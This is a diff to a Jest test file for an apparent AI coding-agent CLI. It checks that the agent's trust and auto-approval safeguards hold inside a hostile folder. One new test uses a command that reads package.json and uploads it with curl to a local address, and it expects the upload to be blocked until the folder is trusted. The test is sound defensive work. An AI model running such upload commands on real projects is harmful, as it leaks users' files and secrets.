@@ -7,6 +7,10 @@ import { execFile } from 'node:child_process';
 import { mkdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { jest } from '@jest/globals';
+import { systemClock } from '../../lib/base/clock.js';
+import type { Host } from '../../lib/base/host.js';
+import { answerProject, listProject } from '../../lib/modes/project.js';
+import { readTrust } from '../../lib/modes/trust-store.js';
 import { type ChatPiece, type ChatRequest, type ChatServer, startChatServer } from '../support/chat-server.js';
 import { startOnPty } from '../support/pty.js';
 import { freshHome, type Home, programPath } from './eye.js';
@@ -20,12 +24,24 @@ if (strace === null) console.warn('strace cannot be used here: reads are told by
 
 const claim = { risk: 'low', mutation: true, privesc: false, why: 'a mark' };
 
-/** Runs one command, then says that it is done. */
+/** `run a ;; b`: runs one command after the other, then says that it is done. */
 function* reply({ prompt, results }: ChatRequest): Iterable<ChatPiece> {
-  if (prompt.startsWith('run ') && results.length === 0)
-    yield { calls: [{ name: 'run_shell', arguments: { command: prompt.slice(4), ...claim } }] };
-  else yield { content: `Done: ${results.map(({ content }) => content).join(' ')}` };
+  const command = prompt.startsWith('run ') ? prompt.slice(4).split(' ;; ')[results.length] : undefined;
+  if (command === undefined) yield { content: `Done: ${results.map(({ content }) => content).join(' ')}` };
+  else yield { calls: [{ id: `call-${results.length}`, name: 'run_shell', arguments: { command, ...claim } }] };
 }
+
+/** The same person as in the program that is run. */
+const hostOf = ({ folder }: Home) =>
+  ({
+    env: {},
+    homeDir: folder,
+    cwd: folder,
+    pid: process.pid,
+    hostname: 'here',
+    uid: process.getuid?.() ?? null,
+    clock: systemClock,
+  }) as unknown as Host;
 
 interface Scene {
   readonly home: Home;
@@ -141,6 +157,22 @@ test('the witnesses see what they are there for', () =>
     if (strace !== null) expect(misdeedsSoFar().join('\n')).toContain(`"${hostile.secret}"`);
   }));
 
+test('after its files were read an upload is not covered by --dangerously-auto-approve, until the folder is trusted', () =>
+  inHostileFolder('file', async ({ run, hostile, home, server, expectHarmless }) => {
+    const upload = `run cat package.json ;; curl -s -m 2 -d @package.json http://127.0.0.1:9/ ; echo sent`;
+    const narrowed = await run('exec', '--dangerously-auto-approve', upload);
+    expect(narrowed).toMatchObject({ code: 1, stderr: expect.stringContaining('files of a folder that you have not trusted') });
+    expect(JSON.stringify(server.seen.at(-1)?.results)).not.toContain('sent');
+    expectHarmless();
+    const { records } = readTrust(hostOf(home));
+    expect(records.size).toBe(0);
+    const listing = await listProject(hostOf(home), hostile.folder, { file: null, own: new Map() }, new AbortController().signal);
+    await answerProject(hostOf(home), listing, 'trust', { file: null, own: new Map() }, new AbortController().signal);
+    const open = await run('exec', '--dangerously-auto-approve', upload);
+    expect(JSON.stringify(server.seen.at(-1)?.results)).toContain('sent');
+    expect(open.code).toBe(0);
+  }));
+
 test('a profile that only the folder has ends the start with exit code 2', () =>
   inHostileFolder('file', async ({ run, server, expectHarmless }) => {
     const asked = await run('exec', '-m', 'evil', 'hello');
@@ -190,6 +222,10 @@ test('the dashboard asks, and after a yes exactly what was listed holds', () =>
         await program.until(/approve on/, 20_000);
         program.send('\x1b');
         await program.until(/Done: [\s\S]*denied|denied/, 20_000);
+        program.send('@evilcjs');
+        await program.until(/ evil\.cjs/, 20_000);
+        program.send('\x15');
+        await program.until(/> Ask, or/, 20_000);
         expectHarmless();
         program.send('/trust\r');
         await program.until(/trust this folder\?[\s\S]*not now[\s\S]*agent\.max_iterations {2}20 → 7/, 20_000);
